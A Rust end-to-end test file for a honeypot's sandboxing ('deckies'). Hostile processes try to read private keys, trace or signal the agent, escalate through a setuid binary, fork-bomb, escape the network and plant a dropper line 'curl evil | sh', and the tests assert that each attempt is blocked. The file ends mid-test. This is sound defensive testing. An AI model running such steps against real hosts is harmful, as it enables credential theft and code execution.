//! Deckies are hostile: a decky that runs the attacker's code tries to read
//! the keys, write the agent's state and release tree, signal or trace the
//! agent and the other deckies, gain root through a setuid binary, fork-bomb
//! and eat memory. Every attempt must fail, the agent must keep serving the
//! master, and the other deckies must be untouched.
//!
//! Real processes under a real updater and agent (root is needed to switch
//! ids: without it the agent must refuse to start rather than run deckies
//! as itself, which the test then checks instead).

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::Duration;

use decnet_e2e::{MasterHome, UpdaterFixture, bin, good_release, wait_for};

const HOSTILE: &str = env!("CARGO_BIN_EXE_decnet-hostile-decky");

/// Every test's files (homes, state dirs, the attacker's tools) live under
/// the target dir, not `/tmp`: a contained decky's `/tmp` is its own, so
/// there an attack on the agent's files would fail for not finding them,
/// proving nothing about their permissions.
fn outside_tmp() {
    let target = Path::new(env!("CARGO_TARGET_TMPDIR"));
    // Deckies run under uids of their own: every directory above must be
    // searchable by them (a checkout under a 0700 home is not).
    let searchable = target
        .ancestors()
        .all(|a| std::fs::metadata(a).is_ok_and(|m| m.mode() & 0o001 != 0));
    let dir = if searchable {
        target.join("containment")
    } else {
        PathBuf::from("/var/lib/decnet-tests")
    };
    std::fs::create_dir_all(&dir).unwrap();
    chmod(&dir, 0o755);
    // Set once per process; later calls find it set.
    let _ = tempfile::env::override_temp_dir(&dir);
}

fn is_root() -> bool {
    rustix::process::geteuid().is_root()
}

fn chmod(p: &Path, mode: u32) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

fn write_config(dir: &Path, name: &str, json: serde_json::Value) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, serde_json::to_vec(&json).unwrap()).unwrap();
    p
}

fn status_of(m: &MasterHome, host: &str, name: &str) -> serde_json::Value {
    let st = m.json(&["swarm", "status", host, "--json"]);
    st.as_array()
        .and_then(|a| a.iter().find(|h| h["host"] == host))
        .and_then(|h| h["status"]["deckies"].as_array())
        .and_then(|d| d.iter().find(|d| d["name"] == name))
        .cloned()
        .unwrap_or_else(|| panic!("{name} missing in {st}"))
}

fn proc_status(pid: u64) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default()
}

fn field<'a>(status: &'a str, name: &str) -> &'a str {
    status
        .lines()
        .find_map(|l| l.strip_prefix(name))
        .map(str::trim)
        .unwrap_or("")
}

/// Everything a decky's log holds (rotated part first).
/// The process `pid` stands for: its innermost descendant (the program
/// under its relays when the decky has processes of its own, else `pid`).
fn program_of(pid: u64) -> u64 {
    program_of_depth(pid, usize::MAX)
}

/// Follow first children from `pid` at most `depth` levels down.
fn program_of_depth(pid: u64, depth: usize) -> u64 {
    let mut at = pid;
    for _ in 0..depth {
        let next = std::fs::read_to_string(format!("/proc/{at}/task/{at}/children"))
            .ok()
            .and_then(|c| c.split_whitespace().next()?.parse().ok());
        match next {
            Some(n) => at = n,
            None => break,
        }
    }
    at
}

fn decky_log(state: &Path, name: &str) -> String {
    let dir = state.join("logs");
    let old = std::fs::read_to_string(dir.join(format!("{name}.log.1"))).unwrap_or_default();
    old + &std::fs::read_to_string(dir.join(format!("{name}.log"))).unwrap_or_default()
}

#[test]
fn without_root_the_agent_refuses_to_run_deckies_as_itself() {
    outside_tmp();
    if is_root() {
        // As root the capabilities are there; the refusal is checked by
        // dropping them for the agent's run.
        let dir = tempfile::tempdir().unwrap();
        let m = MasterHome::new();
        m.enroll("w0");
        let Ok(out) = std::process::Command::new("setpriv")
            .args([
                "--inh-caps=-all",
                "--bounding-set=-setuid,-setgid,-kill,-chown",
                "--",
            ])
            .arg(bin("decnet-agent"))
            .args(["serve", "--host", "127.0.0.1", "--port", "0", "--no-master"])
            .arg("--bundle-dir")
            .arg(m.agent_bundle_dir("w0"))
            .arg("--state-dir")
            .arg(dir.path().join("s"))
            .output()
        else {
            decnet_e2e::skip::missing(
                "setpriv is not installed: the refusal without capabilities is not exercised here",
            );
            return;
        };
        assert_refused(&out);
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let m = MasterHome::new();
    m.enroll("w0");
    let out = std::process::Command::new(bin("decnet-agent"))
        .args(["serve", "--host", "127.0.0.1", "--port", "0", "--no-master"])
        .arg("--bundle-dir")
        .arg(m.agent_bundle_dir("w0"))
        .arg("--state-dir")
        .arg(dir.path().join("s"))
        .output()
        .unwrap();
    assert_refused(&out);
}

fn assert_refused(out: &std::process::Output) {
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("CAP_SETUID") && err.contains("--decky-isolation none"),
        "{err}"
    );
}

#[test]
fn a_hostile_process_decky_reaches_nothing_of_the_agent_the_host_or_other_deckies() {
    outside_tmp();
    if !is_root() {
        decnet_e2e::skip::missing(
            "not root: per-decky ids cannot be exercised (see the refusal test)",
        );
        return;
    }
    let m = MasterHome::new();
    // Only the modes decnet itself sets may protect anything here.
    chmod(m.dir.path(), 0o755);
    chmod(&m.home(), 0o755);
    m.enroll("w1");
    let u = UpdaterFixture::start_with(&m, "w1", &[], &["--agent-arg=--decky-log-max=1048576"]);
    let v1 = good_release(&m.dir.path().join("rel/v1"), false);
    let out = m.ok(&[
        "swarm",
        "update",
        "--release",
        v1.to_str().unwrap(),
        "--host",
        "w1",
    ]);
    assert!(out.contains("UPDATED"), "{out}");
    let agent_pid = u.agent_pid().expect("agent running");

    // The attacker's tools, where any user may run them; one setuid root.
    let tools = tempfile::tempdir().unwrap();
    chmod(tools.path(), 0o755);
    let hostile = tools.path().join("hostile");
    std::fs::copy(HOSTILE, &hostile).unwrap();
    chmod(&hostile, 0o755);
    let suid = tools.path().join("suid-whoami");
    std::fs::copy(HOSTILE, &suid).unwrap();
    chmod(&suid, 0o4755);
    // Control: without no_new_privs the setuid bit does raise the euid here
    // (so the decky's result below is the containment, not the filesystem).
    if let Ok(o) = std::process::Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&suid)
        .arg("whoami")
        .output()
    {
        assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "EUID 0");
    }

    let cfg = write_config(
        m.dir.path(),
        "victim.json",
        serde_json::json!({"version": 1, "deckies": [
            {"name": "victim", "command": ["/bin/sh", "-c", "exec sleep 600"]}]}),
    );
    m.ok(&[
        "swarm",
        "deploy",
        "--config",
        cfg.to_str().unwrap(),
        "--host",
        "w1",
    ]);
    let victim = status_of(&m, "w1", "victim");
    let victim_pid = victim["pid"].as_u64().unwrap();
    let victim_uid = victim["uid"].as_u64().unwrap();

    let key = m.agent_bundle_dir("w1").join("worker.key");
    let updater_key = m.updater_bundle_dir("w1").join("updater.key");
    let ca_key = m.home().join("ca/ca.key");
    let state_file = u.agent_state.join("decnet-state.json");
    let release = std::fs::canonicalize(u.install.join("current")).unwrap();
    let updater_pid = u.daemon.child.id();
    let mut argv: Vec<String> = vec![hostile.display().to_string(), "attack".into()];
    // Output spam first: the log is capped by rotation, the rest stays readable.
    argv.extend(["--spam".into(), "3145728".into()]);
    for p in [&key, &updater_key, &ca_key, &state_file] {
        argv.extend(["--read".into(), p.display().to_string()]);
    }
    for p in [&state_file, &release.join("bin/decnet-agent")] {
        argv.extend(["--write".into(), p.display().to_string()]);
    }
    for d in [&release, &release.join("bin"), &u.agent_state, &u.install] {
        argv.extend(["--create-in".into(), d.display().to_string()]);
    }
    for pid in [u64::from(agent_pid), u64::from(updater_pid), victim_pid] {
        argv.extend(["--signal".into(), pid.to_string()]);
        argv.extend(["--trace".into(), pid.to_string()]);
    }
    argv.extend([
        "--suid".into(),
        suid.display().to_string(),
        "--fork-bomb".into(),
        "--eat-memory".into(),
    ]);
    let cfg = write_config(
        m.dir.path(),
        "hostile.json",
        serde_json::json!({"version": 1, "deckies": [{
            "name": "hostile", "command": argv, "env": {"GREETING": "hi"},
            "limits": {"processes": 32, "memory_mb": 64}}]}),
    );
    m.ok(&[
        "swarm",
        "deploy",
        "--config",
        cfg.to_str().unwrap(),
        "--host",
        "w1",
    ]);
    let log = wait_for(Duration::from_secs(60), || {
        let t = decky_log(&u.agent_state, "hostile");
        t.contains("DONE").then_some(t)
    })
    .unwrap_or_else(|| {
        panic!(
            "the hostile decky never finished: {}",
            decky_log(&u.agent_state, "hostile")
        )
    });
    // Its report, without the spam.
    let log: String = log
        .lines()
        .filter(|l| !l.starts_with("xxxx"))
        .map(|l| format!("{l}\n"))
        .collect();
    let h = status_of(&m, "w1", "hostile");
    assert_eq!(h["state"], "running", "{h}");
    let h_pid = h["pid"].as_u64().unwrap();
    // With processes of its own the decky's leader is its relay; the
    // program is the relay's innermost descendant (see confine::pidns).
    let leader = h_pid;
    let h_pid = program_of(h_pid);
    let h_uid = h["uid"].as_u64().unwrap();

    // Ids: its own, never root, never the agent's, never the victim's.
    assert!(
        h_uid >= 3_000_000 && h_uid != victim_uid,
        "{h_uid} {victim_uid}"
    );
    assert!(
        log.contains(&format!("IDS uid={h_uid} euid={h_uid} gid={h_uid}")),
        "{log}"
    );
    // Every attempt failed, and there were as many as asked for.
    let attempts: Vec<&str> = log.lines().filter(|l| l.starts_with("ATTEMPT")).collect();
    assert_eq!(attempts.len(), 4 + 2 + 4 + 6, "{attempts:#?}");
    for a in &attempts {
        assert!(a.contains(": blocked ("), "the decky got through: {a}");
    }
    // The setuid binary ran with the decky's own euid (no_new_privs).
    assert!(log.contains(&format!("EUID {h_uid}")), "{log}");
    // The fork bomb and the memory eater hit their limits.
    let forks: u64 = log
        .lines()
        .find_map(|l| l.strip_prefix("FORKS "))
        .and_then(|l| l.split_whitespace().next()?.parse().ok())
        .expect("fork bomb ran");
    assert!(forks < 32, "the process limit held: {forks}");
    let mib: u64 = log
        .lines()
        .find_map(|l| l.strip_prefix("MEMORY "))
        .and_then(|l| l.split_whitespace().next()?.parse().ok())
        .expect("memory eater ran");
    assert!(mib < 64, "the memory limit held: {mib} MiB");
    // Its output went through a pipe into a capped, rotated log.
    let logs = u.agent_state.join("logs");
    for f in ["hostile.log", "hostile.log.1"] {
        let len = std::fs::metadata(logs.join(f)).unwrap().len();
        assert!(len <= 1 << 20, "{f} is {len} bytes");
    }
    let fd1 = std::fs::read_link(format!("/proc/{h_pid}/fd/1")).unwrap();
    assert!(fd1.to_string_lossy().starts_with("pipe:"), "{fd1:?}");

    // What the kernel says about the running decky.
    let st = proc_status(h_pid);
    assert_eq!(field(&st, "Groups:"), "", "no supplementary groups");
    assert_eq!(field(&st, "NoNewPrivs:"), "1");
    assert_eq!(field(&st, "CapEff:"), "0000000000000000");
    assert_eq!(field(&st, "CapPrm:"), "0000000000000000");
    let environ = std::fs::read(format!("/proc/{h_pid}/environ")).unwrap();
    let mut keys: Vec<String> = environ
        .split(|b| *b == 0)
        .filter(|kv| !kv.is_empty())
        .map(|kv| {
            String::from_utf8_lossy(kv)
                .split('=')
                .next()
                .unwrap()
                .to_string()
        })
        .collect();
    keys.sort();
    assert_eq!(keys, vec!["DECNET_DECKY", "DECNET_SERVICES", "GREETING"]);
    let stat = std::fs::read_to_string(format!("/proc/{h_pid}/stat")).unwrap();
    let session: u64 = stat[stat.rfind(')').unwrap() + 2..]
        .split_whitespace()
        .nth(3)
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(session, leader, "a session of its own");
    if leader != h_pid {
        // The relays hold nothing: no capability, no descriptor but the
        // output pipe and their status pipe, stdin /dev/null.
        for relay in [leader, program_of_depth(leader, 1)] {
            let st = proc_status(relay);
            assert_eq!(field(&st, "CapEff:"), "0000000000000000", "relay {relay}");
            assert_eq!(field(&st, "CapPrm:"), "0000000000000000", "relay {relay}");
            let fd0 = std::fs::read_link(format!("/proc/{relay}/fd/0")).unwrap();
            assert_eq!(fd0, Path::new("/dev/null"), "relay {relay}");
            let fds = std::fs::read_dir(format!("/proc/{relay}/fd"))
                .unwrap()
                .count();
            assert!(fds <= 4, "relay {relay} holds {fds} descriptors");
        }
    }
    let cwd = std::fs::read_link(format!("/proc/{h_pid}/cwd")).unwrap();
    assert_eq!(cwd, u.agent_state.join("deckies/hostile"));
    let meta = std::fs::metadata(&cwd).unwrap();
    assert_eq!((meta.uid(), meta.mode() & 0o777), (h_uid as u32, 0o700));
    assert_eq!(
        std::fs::metadata(m.agent_bundle_dir("w1")).unwrap().mode() & 0o077,
        0,
        "the bundle dir is closed to others"
    );

    // Nothing was written; the agent, the updater and the victim are as before.
    assert!(
        !std::fs::read_to_string(&state_file)
            .unwrap()
            .contains("owned")
    );
    assert!(!release.join("planted").exists() && !u.agent_state.join("planted").exists());
    assert_eq!(u.agent_pid(), Some(agent_pid), "the agent was not stopped");
    assert!(decnet_e2e::alive(u.daemon.child.id()));
    let out = m.ok(&["swarm", "check"]);
    assert!(out.contains("w1"), "{out}");
    let v = status_of(&m, "w1", "victim");
    assert_eq!(
        (v["state"].as_str(), v["pid"].as_u64()),
        (Some("running"), Some(victim_pid))
    );

    // A new release restarts the agent; both deckies are re-adopted as they run.
    let v2 = good_release(&m.dir.path().join("rel/v2"), false);
    let out = m.ok(&[
        "swarm",
        "update",
        "--release",
        v2.to_str().unwrap(),
        "--host",
        "w1",
    ]);
    assert!(out.contains("UPDATED"), "{out}");
    assert_ne!(u.agent_pid(), Some(agent_pid));
    for (name, pid) in [("victim", victim_pid), ("hostile", leader)] {
        let d = status_of(&m, "w1", name);
        assert_eq!(
            (d["state"].as_str(), d["pid"].as_u64()),
            (Some("running"), Some(pid)),
            "{d}"
        );
    }
    let c = m.json(&["swarm", "status", "w1", "--json"]);
    assert_eq!(
        c[0]["status"]["containment"]["isolation"]["mode"], "per-decky-uid",
        "{c}"
    );

    // Teardown leaves no process of its uid behind; the victim stays.
    m.ok(&["swarm", "teardown", "w1", "--decky", "hostile"]);
    assert!(
        wait_for(Duration::from_secs(10), || decnet_proc::processes_of_user(
            h_uid as u32
        )
        .is_empty()
        .then_some(()))
        .is_some(),
        "processes of the torn-down decky remain"
    );
    assert!(decnet_e2e::alive(victim_pid as u32));
}

#[test]
fn named_accounts_run_as_asked_and_root_only_when_allowed_and_audited() {
    outside_tmp();
    if !is_root() {
        decnet_e2e::skip::missing(
            "not root: per-decky ids cannot be exercised (see the refusal test)",
        );
        return;
    }
    let m = MasterHome::new();
    m.enroll("w2");
    let _agent = decnet_e2e::Agent::start(&m, "w2", &m.dir.path().join("w2-state"), &[]);
    let sleeper = |name: &str, extra: serde_json::Value| {
        let mut d =
            serde_json::json!({"name": name, "command": ["/bin/sh", "-c", "exec sleep 600"]});
        d.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        d
    };
    // Root without allow_root: refused by name before anything runs.
    let cfg = write_config(
        m.dir.path(),
        "root.json",
        serde_json::json!({"version": 1, "deckies": [sleeper("rooty", serde_json::json!({"user": "root"}))]}),
    );
    let out = m.run(&["swarm", "deploy", "--config", cfg.to_str().unwrap()]);
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{text}");
    assert!(
        text.contains("deckies[0].user") && text.contains("allow_root"),
        "{text}"
    );

    let cfg = write_config(
        m.dir.path(),
        "named.json",
        serde_json::json!({"version": 1, "deckies": [
            sleeper("named", serde_json::json!({"user": "nobody"})),
            sleeper("rooty", serde_json::json!({"user": "root", "allow_root": true})),
        ]}),
    );
    let out = m.run(&["swarm", "deploy", "--config", cfg.to_str().unwrap()]);
    assert!(out.status.success(), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("rooty may run as root"));
    let named = status_of(&m, "w2", "named");
    assert_eq!(
        (named["state"].as_str(), named["uid"].as_u64()),
        (Some("running"), Some(65534))
    );
    let rooty = status_of(&m, "w2", "rooty");
    assert_eq!(
        (rooty["state"].as_str(), rooty["uid"].as_u64()),
        (Some("running"), Some(0))
    );
    let audit = m.json(&["audit", "--json"]);
    assert!(
        audit
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["action"] == "swarm.deploy"
                && e["detail"]
                    .as_str()
                    .unwrap_or("")
                    .contains("allow_root=[rooty]")),
        "{audit}"
    );
    // A shared account is not swept by uid: the decky's own group goes.
    let named_pid = named["pid"].as_u64().unwrap() as u32;
    m.ok(&["swarm", "teardown", "w2"]);
    assert!(
        wait_for(Duration::from_secs(10), || (!decnet_e2e::alive(named_pid))
            .then_some(()))
        .is_some()
    );
}

#[test]
fn an_unconfined_decky_is_replaced_by_a_contained_one_when_the_agent_restarts_confined() {
    outside_tmp();
    if !is_root() {
        decnet_e2e::skip::missing(
            "not root: per-decky ids cannot be exercised (see the refusal test)",
        );
        return;
    }
    let m = MasterHome::new();
    m.enroll("w3");
    let mut agent = decnet_e2e::Agent::start(
        &m,
        "w3",
        &m.dir.path().join("w3-state"),
        &["--decky-isolation", "none"],
    );
    let c = m.json(&["swarm", "status", "w3", "--json"]);
    assert_eq!(
        c[0]["status"]["containment"]["isolation"]["mode"], "none",
        "{c}"
    );
    let cfg = write_config(
        m.dir.path(),
        "d.json",
        serde_json::json!({"version": 1, "deckies": [
            {"name": "d", "command": ["/bin/sh", "-c", "exec sleep 600"]}]}),
    );
    m.ok(&["swarm", "deploy", "--config", cfg.to_str().unwrap()]);
    let before = status_of(&m, "w3", "d");
    let old_pid = before["pid"].as_u64().unwrap() as u32;
    assert!(before.get("uid").is_none(), "{before}");
    assert_eq!(
        decnet_proc::real_uid(old_pid),
        Some(0),
        "runs as the agent's user"
    );

    agent.restart(&m, "w3", &[]);
    let after = status_of(&m, "w3", "d");
    assert_eq!(after["state"], "running", "{after}");
    let uid = after["uid"].as_u64().unwrap();
    let new_pid = after["pid"].as_u64().unwrap() as u32;
    assert!(uid >= 3_000_000, "{after}");
    assert_ne!(new_pid, old_pid);
    assert_eq!(decnet_proc::real_uid(new_pid), Some(uid as u32));
    assert!(
        wait_for(Duration::from_secs(10), || (!decnet_e2e::alive(old_pid))
            .then_some(()))
        .is_some(),
        "the unconfined process was stopped"
    );
    assert!(
        agent
            .daemon
            .log_text()
            .contains("replacing an unconfined decky")
    );
}

/// A free port below 1024 (the test runs as root).
fn free_privileged_port() -> u16 {
    (700..1000)
        .find(|p| std::net::TcpListener::bind(("0.0.0.0", *p)).is_ok())
        .expect("a free port below 1024")
}

/// The network edge, played by a hostile decky: it gets a network of its
/// own (loopback only) and a privileged port handed in. It serves that port
/// to a client on the host as its unprivileged uid; it cannot connect to a
/// listener on the host's loopback, the agent, the master's control API or
/// any other address; a port it binds is its own namespace's, not the
/// host's; it holds no descriptor but 0, 1, 2 and its socket. A second
/// decky asking for the same port is a 409 naming it, and teardown frees it.
#[test]
fn a_process_decky_has_a_network_of_its_own_and_serves_the_port_handed_in() {
    outside_tmp();
    use std::io::Read;
    if !is_root() {
        decnet_e2e::skip::missing(
            "not root: per-decky ids and privileged ports cannot be exercised",
        );
        return;
    }
    let m = MasterHome::new();
    chmod(m.dir.path(), 0o755);
    chmod(&m.home(), 0o755);
    m.enroll("w1");
    let master = m.serve(&["--no-listener"]);
    let state = m.dir.path().join("w1-state");
    let agent = decnet_e2e::Agent::start(&m, "w1", &state, &[]);
    let tools = tempfile::tempdir().unwrap();
    chmod(tools.path(), 0o755);
    let hostile = tools.path().join("hostile");
    std::fs::copy(HOSTILE, &hostile).unwrap();
    chmod(&hostile, 0o755);
    // Something on the host's loopback the decky must not reach.
    let host_only = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let host_only_addr = host_only.local_addr().unwrap();
    let port = free_privileged_port();
    let inner_port = decnet_e2e::free_port();
    let targets = [
        host_only_addr.to_string(),
        agent.daemon.addr.to_string(),
        master.addr.to_string(),
        "10.255.255.1:80".to_string(),
    ];
    let mut argv = vec![hostile.display().to_string(), "net".into()];
    for t in &targets {
        argv.extend(["--connect".to_string(), t.clone()]);
    }
    argv.extend(["--bind".to_string(), inner_port.to_string()]);
    // Scratch of its own: what it plants in /tmp and /dev/shm never
    // reaches the host (nor, then, another decky).
    let planted = format!("decnet-planted-{}-{port}", std::process::id());
    // Nor namespaces of its own inside its own.
    for kind in ["--user", "--mount", "--net"] {
        argv.extend(["--nest".to_string(), kind.to_string()]);
    }
    for dir in ["/tmp", "/dev/shm"] {
        argv.extend(["--write".to_string(), format!("{dir}/{planted}")]);
        argv.extend(["--stat".to_string(), dir.to_string()]);
    }
    let cfg = write_config(
        m.dir.path(),
        "net.json",
        serde_json::json!({"version": 1, "deckies": [
            {"name": "netd", "command": argv, "ports": [{"host": port}]}]}),
    );
    m.ok(&[
        "swarm",
        "deploy",
        "--config",
        cfg.to_str().unwrap(),
        "--host",
        "w1",
    ]);
    let log = wait_for(Duration::from_secs(20), || {
        let l = decky_log(&state, "netd");
        l.contains("DONE").then_some(l)
    })
    .unwrap_or_else(|| {
        panic!(
            "the decky did not finish its attempts:\n{}",
            decky_log(&state, "netd")
        )
    });
    let uid = status_of(&m, "w1", "netd")["uid"].as_u64().unwrap();

    // Its port, privileged, served by its unprivileged uid.
    let mut conn = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut hello = String::new();
    let _ = conn.read_to_string(&mut hello);
    assert_eq!(hello.trim(), format!("hello from uid {uid}"), "{log}");
    assert!(
        log.contains(&format!("LISTEN_FDS 1 pid_ok=true names=tcp-{port}")),
        "{log}"
    );
    assert!(
        log.contains("FDS 0,1,2,3\n"),
        "a descriptor leaked in:\n{log}"
    );
    // Processes of its own: its init and itself, nothing of the host.
    let containment = &m.json(&["swarm", "status", "w1", "--json"])[0]["status"]["containment"];
    if containment["processes"]["mode"] == "own" {
        assert!(
            log.contains("PROCS 1,2\n"),
            "the decky sees other processes:\n{log}"
        );
    } else {
        eprintln!("processes of its own unavailable here: {containment}");
    }
    for kind in ["--user", "--mount", "--net"] {
        assert!(
            log.contains(&format!("ATTEMPT nest {kind}: blocked")),
            "{log}"
        );
    }
    for dir in ["/tmp", "/dev/shm"] {
        let path = format!("{dir}/{planted}");
        assert!(
            log.contains(&format!("ATTEMPT write {path}: SUCCEEDED")),
            "{log}"
        );
        assert!(
            !std::path::Path::new(&path).exists(),
            "{path} reached the host"
        );
        assert!(log.contains(&format!("STAT {dir} {uid} 700")), "{log}");
    }
    for t in &targets {
        assert!(
            log.contains(&format!("ATTEMPT connect {t}: blocked")),
            "the decky reached {t}:\n{log}"
        );
    }
    // What it binds is its own namespace's: the host's port stays free.
    assert!(log.contains(&format!("BOUND {inner_port}")), "{log}");
    assert!(
        std::net::TcpListener::bind(("0.0.0.0", inner_port)).is_ok(),
        "the decky took a host port"
    );
    let status = m.json(&["swarm", "status", "w1", "--json"]);
    assert_eq!(
        status[0]["status"]["containment"]["network"]["mode"], "own",
        "{status}"
    );

    // The port is the decky's: another decky asking for it is refused.
    let clash = write_config(
        m.dir.path(),
        "clash.json",
        serde_json::json!({"version": 1, "deckies": [
            {"name": "clash", "command": ["/bin/sleep", "600"], "ports": [{"host": port}]}]}),
    );
    let out = m.run(&[
        "swarm",
        "deploy",
        "--config",
        clash.to_str().unwrap(),
        "--host",
        "w1",
    ]);
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(
        text.contains("409") && text.contains(&format!("tcp-{port}")),
        "{text}"
    );

    // Teardown frees it.
    m.ok(&["swarm", "teardown", "w1", "--decky", "netd"]);
    assert!(
        wait_for(Duration::from_secs(10), || std::net::TcpListener::bind((
            "0.0.0.0", port
        ))
        .ok()
        .map(|_| ()))
        .is_some(),
        "the port stayed taken after teardown"
    );
    drop(host_only);
}

/// A decky that fills its disk is stopped: no single file grows past its
/// budget (`RLIMIT_FSIZE`), and a working directory that does (many small
/// files) gets the decky stopped for good by its shepherd — not restarted,
/// counted, and said in `swarm status`.
#[test]
fn a_decky_writing_past_its_disk_budget_is_stopped() {
    outside_tmp();
    if !is_root() {
        decnet_e2e::skip::missing("not root: per-decky ids cannot be exercised");
        return;
    }
    let m = MasterHome::new();
    m.enroll("w1");
    let state = m.dir.path().join("w1-state");
    let _agent = decnet_e2e::Agent::start(&m, "w1", &state, &[]);
    let cfg = write_config(
        m.dir.path(),
        "fill.json",
        serde_json::json!({"version": 1, "deckies": [
            {"name": "filler", "restart": "always", "limits": {"disk_mb": 8},
             "command": ["/bin/sh", "-c", "i=0; while true; do head -c 1048576 /dev/zero > f$i; i=$((i+1)); done"]},
            {"name": "bigfile", "restart": "never", "limits": {"disk_mb": 4},
             "command": ["/bin/sh", "-c", "head -c 16777216 /dev/zero > big; echo wrote $?"]}
        ]}),
    );
    m.ok(&[
        "swarm",
        "deploy",
        "--config",
        cfg.to_str().unwrap(),
        "--host",
        "w1",
    ]);
    let stopped = wait_for(Duration::from_secs(30), || {
        let d = status_of(&m, "w1", "filler");
        (d["state"] == "failed").then_some(d)
    })
    .unwrap_or_else(|| {
        panic!(
            "the filler was not stopped: {}",
            status_of(&m, "w1", "filler")
        )
    });
    assert!(
        stopped["error"]
            .as_str()
            .unwrap_or_default()
            .contains("exceeded its disk budget of 8 MiB"),
        "{stopped}"
    );
    // Stopped for good: no restart despite restart: always.
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(status_of(&m, "w1", "filler")["state"], "failed");
    assert_eq!(status_of(&m, "w1", "filler")["restarts"], 0);
    let big = state.join("deckies/bigfile/big");
    assert!(
        wait_for(Duration::from_secs(10), || (status_of(&m, "w1", "bigfile")
            ["state"]
            != "running")
            .then_some(()))
        .is_some()
    );
    let size = std::fs::metadata(&big).map(|md| md.len()).unwrap_or(0);
    assert!(size <= 4 << 20, "a file grew past RLIMIT_FSIZE: {size}");
}

/// A teardown leaves nothing of the decky behind yet loses nothing: its
/// uid's processes end (a daemonised one included), its working directory
/// becomes an evidence archive the operator fetches with `swarm evidence`,
/// and its uid is freed. The decky plays the attacker with what it leaves:
/// a link to the agent's key (stored as a link, never followed: the key's
/// bytes must not reach the archive), a FIFO (skipped, never blocking the
/// teardown), and a directory it closed to itself.
#[test]
fn a_torn_down_decky_leaves_evidence_and_nothing_of_its_uid() {
    outside_tmp();
    if !is_root() {
        decnet_e2e::skip::missing("not root: per-decky ids cannot be exercised");
        return;
    }
    let m = MasterHome::new();
    m.enroll("w1");
    let state = m.dir.path().join("w1-state");
    let _agent = decnet_e2e::Agent::start(&m, "w1", &state, &[]);
    let key = m.agent_bundle_dir("w1").join("worker.key");
    assert!(key.is_file());
    let script = format!(
        "mkdir -p loot sealed && echo 'curl evil | sh' > loot/dropper.sh && \
         ln -s {} agent-key && mkfifo pipe && echo hidden > sealed/note && chmod 000 sealed && \
         (setsid sleep 600 > /dev/null 2>&1 &) ; echo READY; exec sleep 600",
        key.display()
    );
    let cfg = write_config(
        m.dir.path(),
        "trap.json",
        serde_json::json!({"version": 1, "deckies": [
            {"name": "trap", "command": ["/bin/sh", "-c", script]}]}),
    );
    m.ok(&[
        "swarm",
        "deploy",
        "--config",
        cfg.to_str().unwrap(),
        "--host",
        "w1",
    ]);
    assert!(
        wait_for(Duration::from_secs(20), || decky_log(&state, "trap")
            .contains("READY")
            .then_some(()))
        .is_some(),
        "{}",
        decky_log(&state, "trap")
    );
    let uid = status_of(&m, "w1", "trap")["uid"].as_u64().unwrap() as u32;
    let ids = || std::fs::read_to_string(state.join("decky-ids.json")).unwrap_or_default();
    assert!(ids().contains("\"trap\""));

    m.ok(&["swarm", "teardown", "w1", "--decky", "trap"]);
    // Nothing of its uid runs, its directory is gone, its uid is free.
    assert!(
        decnet_proc::processes_of_user(uid).is_empty(),
        "processes of uid {uid} survived the teardown"
    );
    assert!(!state.join("deckies/trap").exists());
    assert!(
        !ids().contains("\"trap\""),
        "the uid stayed booked: {}",
        ids()
    );

    // The evidence, listed and fetched.
    let list = m.json(&["swarm", "evidence", "w1", "--json"]);
    let archives = list.as_array().unwrap();
    assert_eq!(archives.len(), 1, "{list}");
    assert_eq!(archives[0]["decky"], "trap");
    let out = m.dir.path().join("trap.tar.gz");
    let fetched = m.run(&[
        "swarm",
        "evidence",
        "w1",
        "trap",
        "-o",
        out.to_str().unwrap(),
    ]);
    assert!(fetched.status.success(), "{fetched:?}");
    assert_eq!(
        std::fs::metadata(&out).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let raw = std::fs::read(&out).unwrap();
    let mut tar = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&raw[..]), &mut tar).unwrap();
    let key_bytes = std::fs::read(&key).unwrap();
    assert!(
        !tar.windows(64)
            .any(|w| key_bytes.windows(64).any(|k| k == w))
            && !String::from_utf8_lossy(&tar).contains("PRIVATE KEY"),
        "the agent's key reached the archive"
    );
    let mut entries = std::collections::BTreeMap::new();
    for e in tar::Archive::new(&tar[..]).entries().unwrap() {
        let mut e = e.unwrap();
        let path = e.path().unwrap().display().to_string();
        let mut body = String::new();
        if e.header().entry_type() == tar::EntryType::Symlink {
            body = format!("-> {}", e.link_name().unwrap().unwrap().display());
        } else {
            let _ = std::io::Read::read_to_string(&mut e, &mut body);
        }
        entries.insert(path, body);
    }
    let top = format!("trap-{}", archives[0]["id"].as_str().unwrap());
    assert_eq!(
        entries[&format!("{top}/loot/dropper.sh")],
        "curl evil | sh\n"
    );
    assert_eq!(entries[&format!("{top}/sealed/note")], "hidden\n");
    assert_eq!(
        entries[&format!("{top}/agent-key")],
        format!("-> {}", key.display())
    );
    assert!(!entries.contains_key(&format!("{top}/pipe")), "{entries:?}");
    let manifest: serde_json::Value =
        serde_json::from_str(&entries["decnet-evidence.json"]).unwrap();
    assert_eq!(manifest["decky"], "trap");
    assert_eq!(manifest["uid"], uid, "{manifest}");
